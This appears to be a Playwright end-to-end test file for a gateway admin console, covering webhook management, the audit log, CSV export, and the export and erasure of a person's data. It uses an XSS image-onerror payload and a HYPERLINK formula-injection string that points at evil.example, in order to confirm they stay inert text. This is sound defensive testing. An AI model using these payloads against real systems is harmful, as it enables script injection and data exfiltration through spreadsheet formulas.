import { readFile } from 'node:fs/promises';
import { type Browser, chromium, type Download, expect, type Page, test } from '@playwright/test';
import { startWebhookReceiver, type WebhookReceiver } from '@sidenote/gateway/testing/webhook-receiver';
import { signedHeaders } from '@sidenote/gateway/webhooks/signature';
import { findChromium } from '../rig/browser.ts';
import { type RunningGateway, startGatewayProcess } from '../rig/gateway.ts';
import { lean } from '../rig/lean-chromium.ts';

const markup = '<img src=x onerror=window.taken=1>';
const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';

// The second asks for what the first did.
test.describe.configure({ mode: 'serial' });

let gateway: RunningGateway;
let receiver: WebhookReceiver;
let browser: Browser;
let page: Page;
test.beforeAll(async () => {
  const executablePath = findChromium();
  [gateway, receiver, browser] = await Promise.all([
    startGatewayProcess(),
    startWebhookReceiver(),
    chromium.launch({ executablePath, args: [lean, ...(process.getuid?.() === 0 ? ['--no-sandbox'] : [])] }),
  ]);
  page = await (
    await browser.newContext({ viewport: { width: 1_280, height: 900 }, reducedMotion: 'reduce' })
  ).newPage();
  await page.goto(`${gateway.url}/console/data-out`);
  await page
    .getByRole('link', { name: 'Sign in' })
    .or(page.getByRole('button', { name: 'Sign in' }))
    .click();
  await page.getByRole('button', { name: /Ada Admin/ }).click();
});
test.afterAll(async () => {
  await browser.close();
  await gateway.close();
  await receiver.close();
});

async function textOf(download: Promise<Download>): Promise<string> {
  return readFile(await (await download).path(), 'utf8');
}

/** Fills in the reason of the dialog that is open, and presses its button. */
async function giveReason(reason: string, button: string): Promise<void> {
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Why?').fill(reason);
  await dialog.getByRole('button', { name: button, exact: true }).click();
}

test('an owner adds a webhook, finds that in the audit and takes it out; markup and formulas stay text', async () => {
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Getting data out');
  await page.getByRole('button', { name: 'Add a webhook' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Name').fill(markup);
  await dialog.getByLabel('Address').fill('https://10.0.0.1/');
  await giveReason(formula, 'Add a webhook');
  await expect(dialog.getByRole('alert')).toContainText('No message can be sent there');
  await dialog.getByLabel('Address').fill(receiver.url);
  await dialog.getByRole('button', { name: 'Add a webhook', exact: true }).click();

  const secret = await page.getByRole('textbox', { name: 'Secret' }).inputValue();
  expect(secret).toMatch(/^whsec_/);
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  expect(await page.content()).not.toContain(secret);
  const card = page.getByRole('region', { name: markup });
  await expect(card.getByRole('heading')).toHaveText(markup);
  await card.getByRole('button', { name: 'Send a test' }).click();
  await giveReason('To see whether it works', 'Send a test');
  await expect(card).toContainText('Taken: the receiver answered with 204.');
  const { headers, body } = receiver.received.at(-1) ?? { headers: {}, body: '' };
  const message = { id: headers['webhook-id'] ?? '', timestamp: Number(headers['webhook-timestamp']), body };
  expect(headers).toMatchObject(signedHeaders(message, [secret]));

  await card.getByRole('button', { name: 'Change', exact: true }).click();
  await dialog.getByLabel('An event of OCSF 1.6').check();
  await dialog.getByRole('button', { name: 'Review the change' }).click();
  await expect(dialog.getByRole('row', { name: /^What is sent/ })).toContainText(
    'The row, as JSONAn event of OCSF 1.6',
  );
  const other = await page.context().newPage();
  await other.goto(`${gateway.url}/console/data-out`);
  await other.getByRole('region', { name: markup }).getByRole('button', { name: 'Switch off' }).click();
  await other.getByRole('dialog').getByLabel('Why?').fill('While it is changed');
  await other.getByRole('dialog').getByRole('button', { name: 'Switch off' }).click();
  await expect(other.getByText('Changed. Every gateway follows within a second.')).toBeVisible();
  await giveReason('The SIEM wants it', 'Change');
  await expect(page.getByRole('dialog', { name: 'Somebody changed this meanwhile' })).toContainText('onoff');
  await page.getByRole('button', { name: 'Carry my change over' }).click();
  await dialog.getByRole('button', { name: 'Change', exact: true }).click();
  // Before it is there, the other one could undo, and would rest on what was before.
  await expect(card).toContainText('An event of OCSF 1.6');
  await other.getByRole('button', { name: 'Undo' }).click();
  await expect(other.getByText(/^It could not be undone: /)).toBeVisible();
  await expect(other.getByRole('region', { name: markup })).toContainText('An event of OCSF 1.6');
  await other.getByRole('region', { name: markup }).getByRole('button', { name: 'Switch on' }).click();
  await other.getByRole('dialog').getByLabel('Why?').fill('It was by mistake');
  await other.getByRole('dialog').getByRole('button', { name: 'Switch on' }).click();
  await expect(other.getByRole('region', { name: markup })).toContainText('Send a test');
  await other.close();
  // Until this page has looked again, what it would change is what it saw.
  await expect(card.getByRole('button', { name: 'Send a test' })).toHaveCount(1);
  await expect(card).toContainText('An event of OCSF 1.6');
  // What comes next rests on the version that this page has seen: it is on again there as well.
  await expect(card).toContainText('Send a test');

  receiver.answer = (response) => void response.writeHead(500).end();
  await card.getByRole('button', { name: 'New secret' }).click();
  await giveReason('Somebody left', 'New secret');
  // The dialog that asks has such a button as well: closed by it, the secret would come over the page later.
  const newSecret = page.getByRole('dialog', { name: 'The secret of this webhook' });
  await newSecret.getByRole('button', { name: 'Close' }).click();
  await expect(newSecret).toHaveCount(0);
  await expect(card).toContainText('Not taken since');
  await card.getByRole('button', { name: 'Switch off' }).click();
  await giveReason('It fails', 'Switch off');
  await expect(card.getByRole('button', { name: 'Send a test' })).toHaveCount(0);
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(card.getByRole('button', { name: 'Send a test' })).toHaveCount(1);
  await card.getByRole('button', { name: 'Switch off' }).click();
  await giveReason('It still fails', 'Switch off');
  await expect(card.getByRole('button', { name: 'Send a test' })).toHaveCount(0);
  await card.getByRole('button', { name: /not taken/ }).click();
  await expect(page.getByRole('dialog').getByRole('row')).not.toHaveCount(1);
  await page.keyboard.press('Escape');

  await page.getByRole('link', { name: 'Audit', exact: true }).click();
  await page.getByLabel(/^What/).fill('webhook.add');
  await page.getByLabel(/^Who/).fill('ada');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL(/action=webhook\.add/);
  await expect(page).toHaveURL(/actor=[0-9a-f]{32}/);
  const row = page.getByRole('row').filter({ hasText: 'webhook.add' });
  await expect(row).toHaveCount(1);
  await expect(row).toContainText(formula);
  await row.getByRole('button', { name: /Row/ }).click();
  await expect(page.getByRole('dialog')).toContainText(markup);
  await page.keyboard.press('Escape');
  const csv = page.waitForEvent('download');
  await page.getByRole('button', { name: 'CSV' }).click();
  expect(await textOf(csv)).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`);
  await page.getByLabel(/^Who/).fill('nobody of this name');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('alert')).toContainText('No row names');
  await page.getByRole('button', { name: 'Show everything' }).click();
  await expect(page.getByRole('row')).not.toHaveCount(2);
  await page.getByRole('button', { name: 'Check every row' }).click();
  await expect(page.getByText(/^Whole: all \d+ rows/)).toBeVisible();
  expect(await page.locator('main img').count()).toBe(0);
  expect(await page.evaluate(() => 'taken' in window)).toBe(false);
});

test('a person’s data is handed out, and erased only after the name is written once more', async () => {
  await page.getByRole('link', { name: 'A person’s data', exact: true }).click();
  await page.getByRole('button', { name: 'Get everything about them' }).click();
  await expect(page.getByRole('alert')).toContainText('Say whom it is about');
  await expect(page.getByText(/^The value of the claim “sub” in their sign-in/)).toBeVisible();

  // A second time the audit has a row of the first one, which is nothing about anybody.
  let files = 0;
  page.on('download', () => (files += 1));
  for (const wrong of ['myra', 'ada@acme.example', 'myra']) {
    await page.getByLabel('The person').fill(wrong);
    await page.getByRole('button', { name: 'Get everything about them' }).click();
    await expect(page.getByRole('alert')).toContainText('Nothing is known of such a person');
  }
  expect(files).toBe(0);

  await page.getByLabel('The person').fill('ada');
  const file = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Get everything about them' }).click();
  const data = JSON.parse(await textOf(file)) as { audit: unknown[]; webhooks: unknown[] };
  expect(data.audit.length).toBeGreaterThan(3);
  expect(data.webhooks).toHaveLength(1);
  const told = page.getByRole('status').filter({ hasText: 'This is in the file:' });
  for (const what of [
    'What became of answers',
    'Weeks in which they had Sidenote',
    'Sessions of the console',
  ])
    await expect(told).toContainText(what);

  await page.getByLabel('The person').fill('mira');
  await page.getByRole('button', { name: 'End their access' }).click();
  await giveReason('She left', 'End their access');
  const line = page.getByRole('status').filter({ hasText: 'Their access has ended.' });
  await line.getByRole('button', { name: 'Give their access back' }).click();
  await expect(page.getByText('They have their access again.')).toBeVisible();
  await page.getByRole('button', { name: 'Erase everything about them' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Write the name once more').fill('someone else');
  await giveReason('She asked for it', 'Erase everything about them');
  await expect(dialog.getByRole('alert')).toContainText('not the same name');
  await dialog.getByLabel('Write the name once more').fill('mira');
  await dialog.getByRole('button', { name: 'Erase everything about them' }).click();
  await expect(page.getByText('Everything about them is erased.')).toBeVisible();
  expect(page.url()).not.toContain('mira');
});
